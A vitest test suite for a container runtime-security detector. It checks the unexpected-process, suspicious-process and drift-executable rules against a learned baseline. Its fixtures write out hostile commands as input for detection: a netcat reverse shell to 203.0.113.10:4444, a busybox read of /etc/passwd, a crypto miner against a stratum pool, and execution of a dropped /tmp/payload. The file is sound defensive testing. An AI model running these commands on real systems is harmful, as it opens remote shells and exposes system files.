import { describe, expect, it } from 'vitest';
import { api, exec, fileChanged, started } from '../../../fixtures/events.ts';
import { LEARN_MS, harness } from '../../../fixtures/harness.ts';

const BUSYBOX = '/bin/busybox';

/** api's entrypoint is a busybox `sh -c` loop running sleep and a static client during learning. */
function learned() {
  const h = harness();
  h.feed(started(h.at(0), api));
  h.feed(
    exec(h.at(1000), api, BUSYBOX, ['sh', '-c', 'while true; do /usr/local/bin/client api; sleep 1; done'], {
      parentExe: null,
    }),
    exec(h.at(2000), api, BUSYBOX, ['sleep', '1'], { parentExe: BUSYBOX }),
    exec(h.at(3000), api, '/usr/local/bin/client', ['/usr/local/bin/client', 'api'], { parentExe: BUSYBOX }),
  );
  h.at(LEARN_MS + 1000);
  return h;
}

describe('unexpected_process', () => {
  it('alerts on an executable the workload never ran during learning', () => {
    const h = learned();
    const [finding] = h.feed(
      exec(h.now, api, '/usr/bin/python3', ['python3', '-c', 'print(1)'], { parentExe: BUSYBOX }),
    );
    expect(finding?.rule).toBe('unexpected_process');
    expect(finding?.key).toBe('/usr/bin/python3');
    expect(finding?.summary).toContain(
      'shop-api-1 (shop/api) ran /usr/bin/python3, which it never ran during learning',
    );
  });

  it('tells busybox applets apart: a learned sleep does not make an unlearned cat expected', () => {
    const h = learned();
    expect(h.feed(exec(h.now, api, BUSYBOX, ['sleep', '5'], { parentExe: BUSYBOX }))).toEqual([]);
    expect(h.feed(exec(h.now, api, BUSYBOX, ['cat', '/etc/passwd'], { parentExe: BUSYBOX }))[0]?.key).toBe(
      '/bin/busybox (cat)',
    );
  });

  it('stays silent while learning', () => {
    const h = harness();
    expect(h.feed(exec(h.at(0), api, '/usr/bin/python3', ['python3'], { parentExe: BUSYBOX }))).toEqual([]);
  });
});

describe('suspicious_process', () => {
  it('alerts on nc even while the workload is learning', () => {
    const h = harness();
    const [finding] = h.feed(exec(h.at(0), api, BUSYBOX, ['nc', '203.0.113.10', '4444'], { parentExe: BUSYBOX }));
    expect(finding?.rule).toBe('suspicious_process');
    expect(finding?.summary).toBe('shop-api-1 (shop/api) ran the network tool nc: "nc 203.0.113.10 4444"');
  });

  it('calls netcat with -e a reverse shell', () => {
    const h = harness();
    expect(
      h.feed(exec(h.at(0), api, '/usr/bin/ncat', ['ncat', '-e', '/bin/sh', '203.0.113.10', '4444']))[0]?.summary,
    ).toContain('reverse shell');
  });

  it('alerts on package managers installing, miners and stratum URLs, and SSH', () => {
    const h = harness();
    const rules = [
      exec(h.at(0), api, '/sbin/apk', ['apk', 'add', 'curl']),
      exec(h.at(0), api, '/usr/local/bin/pip', ['pip', 'install', 'requests']),
      exec(h.at(0), api, '/tmp/kworker', ['kworker', '-o', 'stratum+tcp://pool.example:3333']),
      exec(h.at(0), api, '/usr/sbin/sshd', ['sshd', '-D']),
    ].map((e) => h.feed(e)[0]?.rule);
    expect(rules).toEqual(['suspicious_process', 'suspicious_process', 'suspicious_process', 'suspicious_process']);
  });

  it('does not treat npm running tests as a package install', () => {
    const h = harness();
    expect(h.feed(exec(h.at(0), api, '/usr/bin/npm', ['npm', 'test']))).toEqual([]);
  });

  it('alerts on a shell started through docker exec, even while learning', () => {
    const h = harness();
    const [finding] = h.feed(exec(h.at(0), api, BUSYBOX, ['sh'], { execId: 'e'.repeat(64), parentExe: null }));
    expect(finding?.rule).toBe('suspicious_process');
    expect(finding?.summary).toContain('through docker exec (interactive shell)');
  });

  it("stays silent on the shell of Docker's own healthcheck (CMD-SHELL runs /bin/sh -c through exec)", () => {
    const h = harness();
    const health = { execId: 'e'.repeat(64), parentExe: null, healthcheck: true };
    expect(h.feed(exec(h.at(0), api, BUSYBOX, ['/bin/sh', '-c', 'true'], health))).toEqual([]);
  });

  it('alerts on a shell spawned by the application rather than by init', () => {
    const h = harness();
    const [finding] = h.feed(exec(h.at(0), api, '/bin/bash', ['bash', '-i'], { parentExe: '/usr/bin/node' }));
    expect(finding?.summary).toContain('spawned by /usr/bin/node');
  });

  it('stays silent on the entrypoint shell it learned, in a new container of the workload', () => {
    const h = learned();
    expect(
      h.feed(
        exec(h.now, api, BUSYBOX, ['sh', '-c', 'while true; do /usr/local/bin/client api; sleep 1; done'], {
          parentExe: null,
        }),
      ),
    ).toEqual([]);
  });

  it('alerts on an entrypoint shell that never ran during learning', () => {
    const h = learned();
    const [finding] = h.feed(exec(h.now, api, '/bin/bash', ['bash', '-c', 'id'], { parentExe: null }));
    expect(finding?.rule).toBe('suspicious_process');
    expect(finding?.summary).toContain('which it did not do during learning');
  });
});

describe('processes gone before they could be read', () => {
  it('are not called unexpected when their executable is unknown', () => {
    const h = learned();
    const findings = h.feed(exec(h.now, api, '', [], { complete: false }));
    expect(h.rules(findings)).not.toContain('unexpected_process');
  });
});

describe('drift_executable', () => {
  it('raises only drift_executable when a binary written after start is executed', () => {
    const h = learned();
    h.feed(fileChanged(h.now, api, '/tmp/payload', 'create'), fileChanged(h.now, api, '/tmp/payload', 'chmod'));
    const findings = h.feed(exec(h.now, api, '/tmp/payload', ['/tmp/payload', '--serve']));
    expect(h.rules(findings)).toEqual(['drift_executable']);
    expect(findings[0]?.summary).toContain('a file written inside the container after it started');
  });

  it('trusts the collector when it marks the exec as drift before the file event arrives', () => {
    const h = learned();
    const findings = h.feed(exec(h.now, api, '/tmp/dropped', ['/tmp/dropped'], { drift: true }));
    expect(h.rules(findings)).toEqual(['drift_executable']);
  });

  it('raises drift_executable when the write of an executed file is reported just after the exec', () => {
    const h = learned();
    h.feed(exec(h.now, api, '/tmp/dropped', ['/tmp/dropped']));
    const findings = h.feed(fileChanged(h.now + 300, api, '/tmp/dropped', 'create'));
    expect(h.rules(findings)).toContain('drift_executable');
    // Tied once: a second write of the same file does not raise it again.
    expect(h.rules(h.feed(fileChanged(h.now + 400, api, '/tmp/dropped', 'chmod')))).not.toContain('drift_executable');
  });

  it('does not tie a write to an exec of the same path long before it', () => {
    const h = learned();
    h.feed(exec(h.now, api, '/tmp/tool', ['/tmp/tool']));
    expect(h.rules(h.feed(fileChanged(h.now + 60_000, api, '/tmp/tool', 'create')))).not.toContain('drift_executable');
  });

  it('fires while learning too', () => {
    const h = harness();
    h.feed(fileChanged(h.at(0), api, '/usr/local/bin/tool', 'create'));
    expect(h.rules(h.feed(exec(h.at(10), api, '/usr/local/bin/tool', ['tool'])))).toContain('drift_executable');
  });

  it('forgets a written file once it is deleted', () => {
    const h = harness();
    h.feed(fileChanged(h.at(0), api, '/tmp/x', 'create'), fileChanged(h.at(1), api, '/tmp/x', 'delete'));
    expect(h.rules(h.feed(exec(h.at(2), api, '/tmp/x', ['/tmp/x'])))).not.toContain('drift_executable');
  });
});
